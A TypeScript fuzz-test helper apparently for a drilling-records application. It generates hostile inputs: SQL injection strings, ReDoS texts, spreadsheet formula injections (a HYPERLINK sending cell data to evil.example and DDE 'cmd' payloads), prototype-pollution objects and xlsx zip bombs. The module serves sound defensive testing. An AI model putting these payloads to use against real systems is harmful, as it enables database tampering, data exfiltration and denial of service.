import { createRandom } from "../../lib/seed/random.ts";
import type { Random } from "../../lib/seed/random.ts";
import { Buffer } from "node:buffer";
import { overlapBomb, widthBomb } from "./xlsx-bombs.ts";

/** SQL an attacker would try in a string field. */
export const SQL_STRINGS = [
  "'; DROP TABLE drilling_daily; --",
  "W001' OR '1'='1",
  '" OR 1=1 --',
  "1; DELETE FROM wells",
  "') UNION SELECT * FROM audit_log --",
  "%' AND deleted_at IS NOT NULL --",
  "W001'); UPDATE drilling_daily SET depth_m = 0; --",
];

/** Texts that made backtracking parsers take seconds (issue 17 item 1), at main_work's 2000 characters. */
export const REDOS_STRINGS = [
  "1" + " ".repeat(1998) + "x",
  "修泵1" + " ".repeat(1996) + "x",
  "一".repeat(1999) + "x",
  "无" + "漏失".repeat(999) + "x",
  "1".repeat(1999) + "分",
  "(".repeat(1999) + ")",
  "8:00" + " ".repeat(1994) + "-x",
  " \n".repeat(999) + "x",
];

/** Relative dates far beyond what Date holds (issue 17 item 5). */
export const HUGE_RELATIVE_DATES = [
  "最近999999999天",
  "last 99999999999999999 days",
  "最近99999999999月",
  "past 99999999999 years",
];

/** Cells a spreadsheet would run as formulas (issue 17 item 7). */
export const FORMULA_STRINGS = [
  '=HYPERLINK("http://evil.example/?d="&A1,"点击")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)",
  "\t=1+1",
  "\r=1+1",
];

let bombs: string[] | null = null;
/** Hostile .xlsx files as base64, under 64 KiB each: a width bomb and a zip bomb (issue 17 item 6). */
export function xlsxBombs(): readonly string[] {
  bombs ??= [widthBomb(), overlapBomb(40, 3)].map((b) => Buffer.from(b).toString("base64"));
  return bombs;
}

function deepValue(depth: number): unknown {
  let v: unknown = "bottom";
  for (let i = 0; i < depth; i++) v = i % 2 ? [v] : { a: v };
  return v;
}

/**
 * A hostile value: wrong types, huge or negative numbers, SQL, NUL bytes, long or odd strings, deep
 * nesting, texts that defeat backtracking parsers, huge relative dates, formulas, .xlsx bombs.
 */
export function hostileValue(r: Random): unknown {
  const pool: (() => unknown)[] = [
    () => r.pick(SQL_STRINGS),
    () => `W001\u0000${r.pick(SQL_STRINGS)}`,
    () => "\u0000",
    () => "x".repeat(r.pick([201, 2001, 10_000, 70_000])),
    () => "井".repeat(r.pick([65, 101, 3000])),
    () => "\ud800\udfff\ud800 lone surrogates",
    () => "‮RTL 🛢️ emoji",
    () => r.pick([1e308, -1e308, 2 ** 53 + 1, -(2 ** 31), -1, -0, 0.5, 1e-300, 123456789012345]),
    () => r.pick([true, false, null]),
    () => [],
    () => [r.pick(SQL_STRINGS), 1, null],
    () => ({}),
    () => ({ $ne: null, __proto__: { admin: true } }),
    () => deepValue(r.pick([10, 200, 3000])),
    () =>
      r.pick([
        "2026-02-30",
        "2026-13-01",
        "yesterday",
        "0000-00-00",
        "9999-12-31",
        "2026-07-01T00:00:00Z",
      ]),
    () => r.pick(["W001", "W002", "w001", " W001 ", "ZZZ"]),
    () => Math.floor(r.between(-5, 100_000)),
    () => r.pick(REDOS_STRINGS),
    () => r.pick(HUGE_RELATIVE_DATES),
    () => r.pick(FORMULA_STRINGS),
    () => r.pick(xlsxBombs()),
  ];
  return r.pick(pool)();
}

/** Arguments for a tool with the given field names: some real fields, some unknown ones, hostile values. */
export function hostileArguments(r: Random, fields: readonly string[]): unknown {
  if (r.chance(0.05)) return r.pick([null, "x", 42, [], [1, 2], true]);
  const args: Record<string, unknown> = {};
  const count = Math.floor(r.between(0, 5));
  for (let i = 0; i < count; i++) {
    const key = r.chance(0.85) && fields.length
      ? r.pick(fields)
      : r.pick(["__proto__", "constructor", "extra", "id; DROP", "", "\u0000"]);
    args[key] = hostileValue(r);
  }
  return args;
}

/** A seeded generator (see lib/seed/random.ts). */
export const seeded = (seed: number): Random => createRandom(seed);
